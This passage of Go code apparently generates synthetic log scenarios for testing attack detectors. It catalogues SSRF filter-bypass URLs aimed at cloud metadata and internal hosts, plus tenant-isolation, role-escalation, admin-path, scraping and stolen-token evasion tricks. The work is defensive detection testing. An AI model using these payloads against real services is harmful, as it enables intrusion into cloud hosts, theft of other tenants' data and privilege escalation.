	for _, param := range []string{"redirect", "redirect_uri", "callback", "callbackUrl", "avatar_url", "image", "src", "next", "feed", "import", "webhook[url]", "target", "dest", "u", "proxy", "file", "path", "data%5Burl%5D", "x"} {
		ssrf("in "+param, "low-volume", "/api/v1/things?"+param+"="+meta)
	}
	ssrf("in JSON", "evasive", "/api/v1/import?spec="+q(`{"source":{"kind":"http","url":"http://169.254.169.254/latest/"}}`))
	ssrf("in JSON, escaped slashes", "evasive", "/api/v1/import?spec="+q(`{"url":"http:\/\/169.254.169.254\/latest\/"}`))
	ssrf("in a path", "evasive", "/proxy/http://169.254.169.254/latest/meta-data/")
	ssrf("in a path, encoded", "evasive", "/proxy/http%3A%2F%2F169.254.169.254%2Flatest%2F")
	ssrf("without a scheme", "evasive", "/fetch?url=169.254.169.254/latest/meta-data/")
	ssrf("relative to the scheme", "evasive", "/fetch?url=//169.254.169.254/latest/")
	ssrf("with backslashes", "evasive", "/fetch?url="+q(`http:\\169.254.169.254\latest`))
	ssrf("in upper case", "evasive", "/fetch?url="+q("HTTP://169.254.169.254/"))
	ssrf("behind white space", "evasive", "/fetch?url="+q("\thttp://169.254.169.254/"))
	ssrf("with a tab inside", "evasive", "/fetch?url="+q("ht\ttp://127.0.0.1/"))
	for _, target := range []string{"http://[::ffff:a9fe:a9fe]/", "http://[64:ff9b::a9fe:a9fe]/", "http://0xA9FEA9FE/", "http://2852039166/", "http://0251.0376.0251.0376/", "http://169.254.43518/",
		"http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/", "http://169。254。169。254/", "http://localtest.me/", "http://127.0.0.1.sslip.io/", "http://customer-7f000001.nip.io/", "http://[::]/", "http://0/",
		"http://localhost:6379/", "http://LOCALHOST/", "http://app.localhost/", "http://user:pass@127.0.0.1/", "http://example.org@127.0.0.1/", "http://127.0.0.1#@example.org/", "http://127.0.0.1?@example.org/",
		"https://metadata.google.internal./", "http://metadata/computeMetadata/v1/", "http://100.100.100.200/latest/", "http://[fd00:ec2::254]/", "http://192.0.0.192/", "http://kubernetes.default.svc/",
		"http://172.31.255.254/", "http://224.0.0.1/", "http://255.255.255.255/", "dict://127.0.0.1:11211/stat", "ldap://127.0.0.1/", "jar:http://127.0.0.1!/", "netdoc:///etc/passwd", "sftp://10.0.0.1/", "tftp://10.0.0.1/x",
		"http://[fe80::1%25eth0]/", "http://[::127.0.0.1]/", "http://[2002:7f00:1::]/", "http://127.1.1.1\\@example.org/"} {
		ssrf("to "+target, "evasive", "/fetch?url="+q(target))
	}
}

func evadeAccess(add adder) {
	own := func(s *scene) string { return fmt.Sprintf("org_mine%d", s.label) }
	cross := func(name, form string, uri string, status int) {
		add("other tenants' data, "+name, form, "cross-tenant", func(s *scene, at time.Time) {
			s.add(at, entry{ip: s.one(), user: s.user(), tenant: own(s), uri: uri, status: status, ua: chrome})
		})
	}
	cross("organizationId", "evasive", "/api/v1/reports?organizationId=org_xyz987", 200)
	cross("tenant-id", "evasive", "/api/v1/reports?tenant-id=org_xyz987", 403)
	cross("upper case", "evasive", "/api/v1/reports?ORG_ID=org_xyz987", 200)
	cross("nested", "evasive", "/api/v1/reports?filter%5Borg_id%5D=org_xyz987", 200)
	cross("encoded name", "evasive", "/api/v1/reports?%6frg_id=org_xyz987", 200)
	cross("encoded value", "evasive", "/api/v1/reports?org_id=org%5Fxyz987", 200)
	cross("polluted", "evasive", "/api/v1/reports?org_id=org_mine&org_id=org_xyz987", 200)
	cross("in a list", "evasive", "/api/v1/reports?org_id=org_xyz987,org_xyz988", 200)
	cross("workspace", "evasive", "/api/v1/reports?workspace_id=org_xyz987", 200)
	cross("in a path", "evasive", "/api/v1/tenants/org_xyz987/users", 200)
	cross("in a path, doubled slash", "evasive", "/api/v1//orgs//org_xyz987/users/", 200)
	cross("in a path, upper case", "evasive", "/api/v1/Orgs/org_xyz987/users", 403)
	cross("by HEAD", "low-volume", "/api/v1/orgs/org_xyz987/export", 200)
	claims := func(name, claim, form string) {
		add("other tenants' data, own by "+name, form, "cross-tenant", func(s *scene, at time.Time) {
			s.add(at, entry{ip: s.one(), token: jwt(fmt.Sprintf(`{"sub":"u%d","%s":"org_claimed%d","exp":1900000000}`, s.label, claim, s.label)),
				uri: "/api/v1/reports?org_id=org_xyz987", status: 200, ua: chrome})
		})
	}
	claims("the org claim", "org", "evasive")
	claims("the org_id claim", "org_id", "evasive")
	claims("the tenant claim", "tenant", "evasive")
	claims("the tid claim", "tid", "evasive")
	add("other tenants' data, by number", "evasive", "cross-tenant", func(s *scene, at time.Time) {
		s.each(at, 20, 30*time.Second, func(i int) entry {
			return entry{ip: s.one(), user: s.user(), tenant: fmt.Sprint(5000 + s.label), uri: fmt.Sprintf("/api/v1/orgs/%d/users", 9000+i*13), status: 403, ua: chrome}
		})
	})
	add("another user's data", "low-volume", "cross-tenant", func(s *scene, at time.Time) {
		s.add(at, entry{ip: s.one(), user: "u_1234567", uri: "/api/v1/profile?user_id=u_7654321", status: 403, ua: chrome})
	})
	add("five objects in ten minutes", "low-volume", "access-denied/high", func(s *scene, at time.Time) {
		ips := s.spread(5)
		s.exact(at, 5, 149*time.Second, func(i int) entry {
			return entry{ip: ips[i], user: s.user(), uri: fmt.Sprintf("/api/v1/files/%08x-0000-4000-8000-%012x", s.rand.Uint32(), i), status: 403, ua: agent(i)}
		})
	})
	add("objects of others, from a /64", "evasive", "access-denied/high", func(s *scene, at time.Time) {
		ips := s.sixes(8, false)
		s.exact(at, 8, 60*time.Second, func(i int) entry {
			return entry{ip: ips[i], uri: fmt.Sprintf("/api/v1/files/%d", 1000*i+s.label), status: 403, ua: agent(i)}
		})
	})
	add("objects of others, by parameter", "evasive", "access-denied/high", func(s *scene, at time.Time) {
		ip := s.one()
		s.exact(at, 8, 60*time.Second, func(i int) entry {
			return entry{ip: ip, user: s.user(), method: "POST", uri: fmt.Sprintf("/api/v1/file?file_id=%d", 1000*i+s.label), status: 403, ua: chrome}
		})
	})
	role := func(name, method, uri string, status int) {
		add("role set, "+name, "evasive", "role-tampering", func(s *scene, at time.Time) {
			s.add(at, entry{ip: s.one(), user: s.user(), method: method, uri: uri, status: status, ua: curl})
		})
	}
	role("roles[]", "POST", "/api/v1/users/me?roles%5B%5D=user&roles%5B%5D=admin", 200)
	role("list", "PUT", "/api/v1/users/me?roles=user,admin", 200)
	role("camel case", "PUT", "/api/v1/users/me?isAdmin=1", 200)
	role("upper case", "PUT", "/api/v1/users/me?ROLE=Administrator", 403)
	role("encoded", "PUT", "/api/v1/users/me?r%6fle=%61dmin", 200)
	role("nested", "PATCH", "/api/v1/profile?data%5Battributes%5D%5Brole%5D=owner", 200)
	role("dotted", "PATCH", "/api/v1/profile?user.role=ADMIN", 200)
	role("at sign-up", "POST", "/api/v1/register?email=x%40example.net&role=admin", 201)
	role("scope", "PUT", "/api/v1/api-tokens/7?scope=admin", 200)
	role("plan", "PATCH", "/api/v1/workspace?plan=enterprise", 200)
	role("by GET", "GET", "/api/v1/users/me/update?role=admin", 200)
	role("flag on", "POST", "/api/v1/users/me?is_superuser=on", 200)
	admin := func(name string, uris ...string) {
		add("admin routes, "+name, "evasive", "admin-probe", func(s *scene, at time.Time) {
			ip := s.one()
			s.exact(at, len(uris), time.Minute, func(i int) entry { return entry{ip: ip, user: s.user(), uri: uris[i], status: 403, ua: chrome} })
		})
	}
	admin("other spellings", "/Admin/users", "//admin//settings/", "/%61dmin/audit")
	admin("matrix parameters", "/admin;x=1/users", "/admin;/settings", "/admin/audit;a=b")
	admin("versions", "/api/v1/admin/users", "/api/v2/admin/jobs", "/internal/config")
	admin("behind dots", "/public/../admin/users", "/x/..;/admin/settings", "/./admin/audit")
	add("admin routes, through a /64", "evasive", "admin-probe", func(s *scene, at time.Time) {
		ips := s.sixes(4, false)
		s.exact(at, 4, time.Hour, func(i int) entry {
			return entry{ip: ips[i], uri: []string{"/admin/users", "/admin/settings", "/admin/audit", "/admin/jobs"}[i], status: 403, ua: agent(i)}
		})
	})
	add("admin routes, one of them open", "evasive", "admin-probe", func(s *scene, at time.Time) {
		ip := s.one()
		s.exact(at, 5, time.Minute, func(i int) entry {
			return entry{ip: ip, user: s.user(), uri: []string{"/admin/users", "/admin/settings", "/admin/audit", "/admin/debug", "/admin/export"}[i], status: []int{403, 403, 403, 403, 200}[i], ua: chrome}
		})
	})
	add("features not paid for", "fast", "permission-denied", func(s *scene, at time.Time) {
		ip := s.one()
		s.exact(at, 12, time.Second, func(i int) entry {
			return entry{ip: ip, user: s.user(), uri: fmt.Sprintf("/api/v1/premium/%c", 'a'+i), status: 402, ua: python}
		})
	})
	remove := func(name string, n int, step time.Duration, uri func(i int) string, ips func(s *scene) []string) {
		add("mass deletion, "+name, "evasive", "bulk-delete", func(s *scene, at time.Time) {
			from := ips(s)
			s.exact(at, n, step, func(i int) entry {
				return entry{ip: from[i%len(from)], user: s.user(), method: "DELETE", uri: uri(i), status: []int{204, 200, 202}[i%3], ua: agent(i % 3)}
			})
		})
	}
	remove("over several routes", 60, 9*time.Second, func(i int) string {
		return fmt.Sprintf("/api/v1/%s/%d", []string{"projects", "files", "tasks"}[i%3], 7000+31*i)
	}, func(s *scene) []string { return s.hosts(1) })
	remove("through proxies", 60, 9*time.Second, func(i int) string { return fmt.Sprintf("/api/v1/projects/%d", 7000+31*i) }, func(s *scene) []string { return s.spread(12) })
	add("mass deletion, below its limit", "low-volume", "", func(s *scene, at time.Time) {
		ip := s.one()
		s.exact(at, 45, 12*time.Second, func(i int) entry {
			return entry{ip: ip, user: s.user(), method: "DELETE", uri: fmt.Sprintf("/api/v1/drafts/%d", 50_000+17*i), status: 204, ua: chrome}
		})
	})
}

func evadeExfiltration(add adder) {
	pages := func(name, form, detectors string, n int, step time.Duration, ips func(s *scene) []string, uri func(s *scene, i int) string) {
		add("scraping, "+name, form, detectors, func(s *scene, at time.Time) {
			from := ips(s)
			s.exact(at, n, step, func(i int) entry {
				return entry{ip: from[i%len(from)], user: s.user(), uri: uri(s, i), bytes: 90_000 + int64(s.rand.IntN(20_000)), ua: agent(i % 7)}
			})
		})
	}
	one := func(s *scene) []string { return s.hosts(1) }
	pages("OData", "evasive", "bulk-export page-walk", 120, 4*time.Second, one, func(_ *scene, i int) string { return fmt.Sprintf("/odata/Customers?$top=100&$skip=%d", 100*i) })
	pages("OData, encoded", "evasive", "bulk-export page-walk", 120, 4*time.Second, one, func(_ *scene, i int) string {
		return fmt.Sprintf("/odata/Orders?%%24top=100&%%24skip=%d", 100*i)
	})
	pages("JSON:API", "evasive", "bulk-export page-walk", 120, 4*time.Second, one, func(_ *scene, i int) string {
		return fmt.Sprintf("/api/v1/people?page%%5Bnumber%%5D=%d&page%%5Bsize%%5D=100", i)
	})
	pages("GraphQL by GET", "evasive", "bulk-export page-walk", 120, 4*time.Second, one, func(s *scene, i int) string {
		return "/graphql?query=" + url.QueryEscape(fmt.Sprintf(`{customers(first:100,after:"%016x"){edges{node{id name}}}}`, s.rand.Uint64()))
	})
	pages("GraphQL, persisted", "evasive", "bulk-export page-walk", 120, 4*time.Second, one, func(s *scene, i int) string {
		return "/graphql?operationName=Customers&variables=" + url.QueryEscape(fmt.Sprintf(`{"first":100,"after":"%016x"}`, s.rand.Uint64()))
	})
	pages("starting_after", "evasive", "bulk-export page-walk", 120, 4*time.Second, one, func(s *scene, i int) string {
		return fmt.Sprintf("/v1/charges?limit=100&starting_after=ch_%012x", s.rand.Uint64N(1<<48))
	})
	pages("pages in the path", "evasive", "page-walk bulk-export", 250, 2*time.Second, one, func(_ *scene, i int) string { return fmt.Sprintf("/catalog/page/%d", i+1) })
	pages("page as p", "evasive", "page-walk bulk-export", 250, 2*time.Second, one, func(_ *scene, i int) string { return fmt.Sprintf("/api/v1/accounts?p=%d&limit=100", i+1) })
	pages("pageToken", "evasive", "bulk-export page-walk", 120, 4*time.Second, one, func(s *scene, i int) string {
		return fmt.Sprintf("/v1/files?maxResults=100&pageToken=%016x", s.rand.Uint64())
	})
	pages("shuffled", "evasive", "bulk-export page-walk", 120, 4*time.Second, one, func(_ *scene, i int) string { return fmt.Sprintf("/api/v1/leads?page=%d&limit=100", (i*77)%120+1) })
	pages("through proxies, odd spellings", "evasive", "bulk-export", 120, 20*time.Second, func(s *scene) []string { return s.spread(40) }, func(_ *scene, i int) string {
		return fmt.Sprintf([]string{"/api/v1/deals?page=%d&per_page=100", "/api//v1/deals/?page=%d&per_page=100", "/api/v1/deals;x?page=%d&per_page=100"}[i%3], i+1)
	})
	pages("few large pages", "low-volume", "bulk-export", 11, 5*time.Minute, one, func(_ *scene, i int) string { return fmt.Sprintf("/api/v1/contacts?page=%d&limit=1000", i+1) })
	pages("just below", "low-volume", "", 10, 5*time.Minute, one, func(_ *scene, i int) string { return fmt.Sprintf("/api/v1/members?page=%d&limit=1000", i+1) })
	pages("many lists", "evasive", "bulk-export", 120, 25*time.Second, one, func(_ *scene, i int) string {
		return fmt.Sprintf("/api/v1/%s?page=%d&limit=100", []string{"leads", "deals", "notes", "calls"}[i%4], i/4+1)
	})
	pages("sorted otherwise each time", "evasive", "bulk-export", 120, 20*time.Second, one, func(_ *scene, i int) string {
		return fmt.Sprintf("/api/v1/leads?offset=%d&limit=100&sort=%d", 100*i, i)
	})
	add("scraping, counted by the service", "slow", "bulk-export", func(s *scene, at time.Time) {
		ip := s.one()
		s.exact(at, 12, 280*time.Second, func(i int) entry {
			return entry{ip: ip, user: s.user(), uri: fmt.Sprintf("/api/v1/orders/all?month=%d", i+1), records: 900, bytes: 80_000, ua: chrome}
		})
	})
	add("scraping, by POST", "evasive", "bulk-export", func(s *scene, at time.Time) {
		ip := s.one()
		s.exact(at, 120, 20*time.Second, func(i int) entry {
			return entry{ip: ip, user: s.user(), method: "POST", uri: fmt.Sprintf("/api/v1/customers/search?page=%d&size=100", i), bytes: 90_000, ua: chrome}
		})
	})
	add("scraping without a name, from a /64", "evasive", "bulk-export page-walk", func(s *scene, at time.Time) {
		ips := s.sixes(120, false)
		s.exact(at, 120, 4*time.Second, func(i int) entry {
			return entry{ip: ips[i], uri: fmt.Sprintf("/api/v1/products?page=%d&per_page=100", i+1), bytes: 90_000, ua: agent(i)}
		})
	})
	add("downloads through proxies", "evasive", "byte-volume", func(s *scene, at time.Time) {
		ips := s.spread(20)
		s.exact(at, 40, 80*time.Second, func(i int) entry {
			return entry{ip: ips[i%20], user: s.user(), uri: fmt.Sprintf("/api/v1/files/%d/download", 60_000+37*i), bytes: 30 << 20, ua: agent(i)}
		})
	})
}

func evadeTokens(add adder) {
	token := func(s *scene) string { return fmt.Sprintf("opq%029x", 7_368_787*s.label) }
	spread := func(name, form, detectors string, step time.Duration, thief func(s *scene) string, theirs string) {
		add("stolen token, "+name, form, detectors, func(s *scene, at time.Time) {
			home, there := s.home(), thief(s)
			s.exact(at, 24, step, func(i int) entry {
				if i%2 == 1 {
					return entry{ip: there, token: token(s), uri: "/api/v1/me", ua: theirs}
				}
				return entry{ip: home, token: token(s), uri: "/api/v1/me", ua: chrome}
			})
		})
	}
	spread("by IPv6", "evasive", "token-spread", 30*time.Second, func(s *scene) string { return s.sixes(1, false)[0] }, chrome)
	spread("through Tor", "evasive", "token-spread", 30*time.Second, func(s *scene) string { return s.tor() }, chrome)
	spread("now and then", "slow", "token-spread", 295*time.Second, func(s *scene) string { return s.one() }, curl)
	spread("abroad", "evasive", "impossible-travel", 25*time.Minute, func(s *scene) string { return s.one() }, chrome)
	add("session used elsewhere", "evasive", "token-spread", func(s *scene, at time.Time) {
		home, there := s.home(), s.one()
		s.exact(at, 24, 30*time.Second, func(i int) entry {
			if i%2 == 1 {
				return entry{ip: there, session: token(s), uri: "/account", ua: chrome}
			}
			return entry{ip: home, session: token(s), uri: "/account", ua: chrome}
		})
	})
	add("Berlin and São Paulo", "low-volume", "impossible-travel", func(s *scene, at time.Time) {
		s.add(at, entry{ip: s.home(), token: token(s), uri: "/api/v1/me", ua: chrome})
		s.add(at.Add(45*time.Minute), entry{ip: s.one(), token: token(s), uri: "/api/v1/me", ua: chrome})
	})
	add("token resumed by IPv6", "evasive", "token-resumed", func(s *scene, at time.Time) {
		e := entry{ip: s.home(), token: token(s), uri: "/api/v1/me", ua: chrome}
		s.exact(at, 20, time.Minute, func(int) entry { return e })
		e.ip, e.ua = s.sixes(1, false)[0], curl
		s.exact(at.Add(6*time.Hour), 3, time.Minute, func(int) entry { return e })
	})
	refresh := func(name, uri string) {
		add("refreshing without end, "+name, "evasive", "refresh-abuse", func(s *scene, at time.Time) {
			ips := s.spread(11)
			s.exact(at, 11, 330*time.Second, func(i int) entry {
				return entry{ip: ips[i], user: s.user(), method: "POST", uri: uri, ua: agent(i)}
			})
		})
	}
	refresh("OAuth", "/oauth/token?grant_type=refresh_token")
	refresh("Supabase", "/auth/v1/token?grant_type=refresh_token")
	refresh("JWT", "/api/token/refresh/")
	refresh("camel case", "/api/v1/auth/refreshToken")
	refresh("Keycloak", "/realms/acme/protocol/openid-connect/token?grant_type=refresh_token")
}
